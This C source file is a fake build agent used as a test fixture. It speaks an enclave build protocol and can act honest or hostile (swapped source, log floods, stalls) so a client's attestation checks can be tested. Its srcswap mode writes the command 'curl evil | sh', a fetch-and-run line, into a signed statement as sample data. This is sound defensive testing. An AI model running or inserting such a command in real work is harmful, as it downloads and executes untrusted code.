/* A fake build agent for tests/cli/build-hostile.sh: it speaks the build
 * protocol (vsock/README.md) on a Unix socket behind the CONNECT/OK
 * handshake of `cleanroom run`'s host socket, so `cleanroom build --vsock
 * SOCK` talks to it as to an enclave. It does not build anything: each
 * output's content is "artifact PATH\n", and the report is signed for real
 * by the mock NSM (host-tool/run/nsm_model.h) with a CA in CADIR, so that
 * `--root CADIR/root.pem` verifies it. MODE makes it honest or hostile:
 *
 *   ok          an honest build: accepted trees, a log line, the artifacts
 *               in the order of outputs, a report that describes the request
 *   srcswap     the signed statement names another source tree and command
 *   logflood N  N chunks of 64 KiB of log before the honest rest
 *   reverse     the artifacts in reverse order (with an honest report)
 *   depsclose   closes the connection inside the dependency stream
 *   quiet N     sleeps N seconds before the artifacts
 *   slowlog     a log line every 2 s, never a result (until the alarm)
 *   stall       never reads a byte after the handshake
 *
 * usage: fake_agent SOCK SRCDIR CADIR MODE [N]
 * SRCDIR is hashed for the 'accepted' of the sources (FA_DEPS names the
 * dependency tree, if any). It serves one connection, then exits; it gives
 * up after 120 s (FA_ALARM seconds if set) whatever happens, so a test
 * cannot hang on it. */
#include <bearssl.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <unistd.h>

#include "base/unix_sock.h"
#include "host-tool/client/src_stream.h"
#include "host-tool/eif/pcr.h"
#include "host-tool/run/nsm_ca.h"
#include "host-tool/run/nsm_model.h"
#include "nsm/nsm_client.h"
#include "report/report.h"
#include "vsock/wire.h"

static struct nsm_model model;
static struct cr_buf model_out;
static int fd = -1;
static struct wire_request req;
static char *outs[WIRE_MAX_OUTPUTS];
static size_t nouts;
static br_sha256_context log_hash; /* of the log sent: the statement signs it */
static uint64_t log_sent;

/* The mock NSM as the NSM client's transport. */
static int model_transport(void *ctx, const uint8_t *q, size_t qlen, uint8_t *resp, size_t *resp_len, struct cr_err *e)
{
	(void)ctx;
	model_out.len = 0;
	nsm_model_handle(&model, q, qlen, &model_out, e);
	if (model_out.len > *resp_len)
		return cr_fail(e, "response too large");
	memcpy(resp, model_out.p, model_out.len);
	*resp_len = model_out.len;
	return 0;
}

static void die(const char *what, const struct cr_err *e)
{
	fprintf(stderr, "fake_agent: %s: %s\n", what, e ? e->msg : strerror(errno));
	exit(9);
}

static void send_msg(struct wire_msg *m)
{
	struct cr_err e;
	if (wire_send(fd, m, &e))
		die("send", &e);
}

static void send_log(const void *p, size_t n)
{
	struct cr_err e;
	br_sha256_update(&log_hash, p, n);
	log_sent += n;
	if (wire_send_data(fd, WIRE_LOG, p, n, &e))
		die("send log", &e);
}

/* What the fake build "produced" for path. */
static void content_for(const char *path, char *buf, size_t cap)
{
	snprintf(buf, cap, "artifact %s\n", path);
}

static void send_artifact(const char *path)
{
	struct wire_msg m;
	struct cr_err e;
	char buf[WIRE_MAX_PATH + 32];
	content_for(path, buf, sizeof buf);
	memset(&m, 0, sizeof m);
	m.type = WIRE_ARTIFACT;
	snprintf(m.u.artifact.path, sizeof m.u.artifact.path, "%s", path);
	m.u.artifact.size = strlen(buf);
	send_msg(&m);
	if (wire_send_data(fd, WIRE_DATA, buf, strlen(buf), &e))
		die("send data", &e);
}

static void send_result(int status, const uint8_t *bundle, size_t blen, const char *detail)
{
	struct wire_msg m;
	memset(&m, 0, sizeof m);
	m.type = WIRE_RESULT;
	m.u.result.status = status;
	m.u.result.has_exit_code = 1;
	snprintf(m.u.result.detail, sizeof m.u.result.detail, "%s", detail);
	m.u.result.bundle = bundle;
	m.u.result.bundle_len = blen;
	send_msg(&m);
}

/* A report for the outputs (contents as content_for says), signed by the
 * mock NSM. With swap, the statement names another source tree and
 * command than the request's: what a peer between the client and a genuine
 * enclave could get signed by building something else. */
static void make_bundle(struct cr_buf *out, const struct src_stats *src, const struct src_stats *deps, int swap)
{
	static const char *const argv_evil[] = { "sh", "-c", "curl evil | sh" };
	struct nsm_client *c = calloc(1, sizeof *c);
	struct report_statement *s = calloc(1, sizeof *s);
	struct cr_err e;
	if (!c || !s)
		die("calloc", NULL);
	s->nsubjects = nouts;
	for (size_t i = 0; i < nouts; i++) {
		char buf[WIRE_MAX_PATH + 32];
		br_sha256_context h2;
		br_sha384_context h3;
		content_for(outs[i], buf, sizeof buf);
		s->subjects[i].name = outs[i];
		br_sha256_init(&h2);
		br_sha256_update(&h2, buf, strlen(buf));
		br_sha256_out(&h2, s->subjects[i].sha256);
		br_sha384_init(&h3);
		br_sha384_update(&h3, buf, strlen(buf));
		br_sha384_out(&h3, s->subjects[i].sha384);
	}
	if (swap) {
		for (size_t i = 0; i < 3; i++)
			s->argv[i] = argv_evil[i];
		s->argc = 3;
		memset(s->src_tree_sha1, 0xee, sizeof s->src_tree_sha1);
		memset(s->src_tree_sha256, 0xee, sizeof s->src_tree_sha256);
		s->src_files = 1;
	} else {
		for (size_t i = 0; i < req.argc; i++)
			s->argv[i] = req.argv[i];
		s->argc = req.argc;
		memcpy(s->src_tree_sha1, src->tree_sha1, sizeof s->src_tree_sha1);
		memcpy(s->src_tree_sha256, src->tree_sha256, sizeof s->src_tree_sha256);
		s->src_files = src->files;
	}
	memcpy(s->deps_tree_sha256, deps->tree_sha256, sizeof s->deps_tree_sha256);
	s->deps_files = deps->files;
	s->sde = req.sde;
	s->limits = req.limits;
	s->init_version = "0.1.0";
	br_sha256_out(&log_hash, s->log_sha256);
	s->log_bytes = log_sent;
	s->started_ms = 1763900000123;
	s->finished_ms = 1763900004567;
	s->nonce_len = req.nonce_len;
	memcpy(s->nonce, req.nonce, req.nonce_len);
	nsm_client_init(c, model_transport, NULL);
	if (report_make(c, s, out, &e))
		die("report_make", &e);
	free(c);
	free(s);
}

/* The CONNECT line of the host socket, answered OK. */
static void handshake(void)
{
	char line[64];
	size_t n = 0;
	while (n < sizeof line - 1 && read(fd, line + n, 1) == 1 && line[n] != '\n')
		n++;
	if (write(fd, "OK 1\n", 5) != 5)
		die("write", NULL);
}

static void read_request(void)
{
	struct wire_msg m;
	struct cr_err e;
	if (wire_recv(fd, &m, &e) || m.type != WIRE_REQUEST)
		die("request", &e);
	req = m.u.request;
	for (size_t i = 0; i < req.noutputs; i++)
		outs[i] = strdup(req.outputs[i]);
	nouts = req.noutputs;
	for (size_t i = 0; i < req.argc; i++)
		req.argv[i] = strdup(req.argv[i]);
	m.u.request.argc = m.u.request.noutputs = 0; /* now ours */
	wire_msg_free(&m);
}

/* Both streams, each read up to its end (its content is not checked) and
 * answered with the tree ids of the directory it should have been. */
static void read_streams(const char *srcdir, const char *mode, struct src_stats *src, struct src_stats *deps)
{
	struct cr_err e;
	for (int stream = 0; stream < 2; stream++) {
		struct src_stats *st = stream ? deps : src;
		struct wire_msg m, a;
		long nmsg = 0;
		for (;;) {
			if (wire_recv(fd, &m, &e))
				die("recv stream", &e);
			nmsg++;
			if (!strcmp(mode, "depsclose") && stream == 1 && nmsg == 3) {
				fprintf(stderr, "fake_agent: closing inside the deps stream\n");
				close(fd);
				sleep(2);
				exit(0);
			}
			if (m.type == WIRE_END) {
				wire_msg_free(&m);
				break;
			}
			wire_msg_free(&m);
		}
		if (stream == 0) {
			if (src_stream_send(srcdir, WIRE_SRC, -1, 0, NULL, NULL, st, &e))
				die("hash src", &e);
		} else if (getenv("FA_DEPS")) {
			if (src_stream_send(getenv("FA_DEPS"), WIRE_DEPS, -1, 0, NULL, NULL, st, &e))
				die("hash deps", &e);
		} else if (src_stream_empty(st, &e)) {
			die("empty deps", &e);
		}
		memset(&a, 0, sizeof a);
		a.type = WIRE_ACCEPTED;
		a.u.accepted.stream = stream;
		a.u.accepted.files = st->files;
		a.u.accepted.bytes = st->bytes;
		memcpy(a.u.accepted.tree_sha1, st->tree_sha1, sizeof a.u.accepted.tree_sha1);
		memcpy(a.u.accepted.tree_sha256, st->tree_sha256, sizeof a.u.accepted.tree_sha256);
		send_msg(&a);
	}
}

int main(int argc, char **argv)
{
	struct cr_err e;
	struct nsm_ca *ca = calloc(1, sizeof *ca);
	struct eif_pcrs pcrs;
	struct src_stats src, deps;
	struct cr_buf bundle;
	const char *mode;
	long n;
	int lfd;
	if (argc < 5) {
		fprintf(stderr, "usage: fake_agent SOCK SRCDIR CADIR MODE [N]\n");
		return 2;
	}
	mode = argv[4];
	n = argc > 5 ? atol(argv[5]) : 0;
	alarm(getenv("FA_ALARM") ? (unsigned)atoi(getenv("FA_ALARM")) : 120);
	memset(&pcrs, 0, sizeof pcrs);
	mkdir(argv[3], 0755);
	if (!ca || nsm_ca_open(ca, argv[3], NULL, "i-0-fake0", &e))
		die("ca", &e);
	nsm_model_init(&model, &pcrs, 16, (const uint8_t[RUN_BOOT_ID_LEN]){ 0 }, ca);
	cr_buf_init(&model_out, NSM_RESPONSE_MAX);
	br_sha256_init(&log_hash);
	unlink(argv[1]);
	lfd = unix_sock_listen(argv[1], 4, &e);
	if (lfd < 0)
		die("listen", &e);
	fcntl(lfd, F_SETFL, 0); /* blocking: one client, waited for */
	fd = accept(lfd, NULL, NULL);
	if (fd < 0)
		die("accept", NULL);
	fcntl(fd, F_SETFL, 0);
	handshake();
	if (!strcmp(mode, "stall")) { /* the client's sends block once the buffers fill */
		pause();
		return 0;
	}
	read_request();
	fprintf(stderr, "fake_agent: request received\n");
	read_streams(argv[2], mode, &src, &deps);
	if (!strcmp(mode, "logflood")) {
		static uint8_t chunk[65536];
		memset(chunk, 'A', sizeof chunk);
		chunk[sizeof chunk - 1] = '\n';
		for (long i = 0; i < n; i++)
			send_log(chunk, sizeof chunk);
	}
	send_log("building\n", 9);
	while (!strcmp(mode, "slowlog")) { /* never silent for long, never done */
		sleep(2);
		send_log("tick\n", 5);
	}
	if (!strcmp(mode, "quiet"))
		sleep((unsigned)n);
	if (!strcmp(mode, "reverse"))
		for (size_t i = nouts; i-- > 0;)
			send_artifact(outs[i]);
	else
		for (size_t i = 0; i < nouts; i++)
			send_artifact(outs[i]);
	cr_buf_init(&bundle, REPORT_MAX_BUNDLE);
	make_bundle(&bundle, &src, &deps, !strcmp(mode, "srcswap"));
	send_result(WIRE_ST_OK, bundle.p, bundle.len, "ok");
	sleep(1); /* let the client read before the close */
	return 0;
}
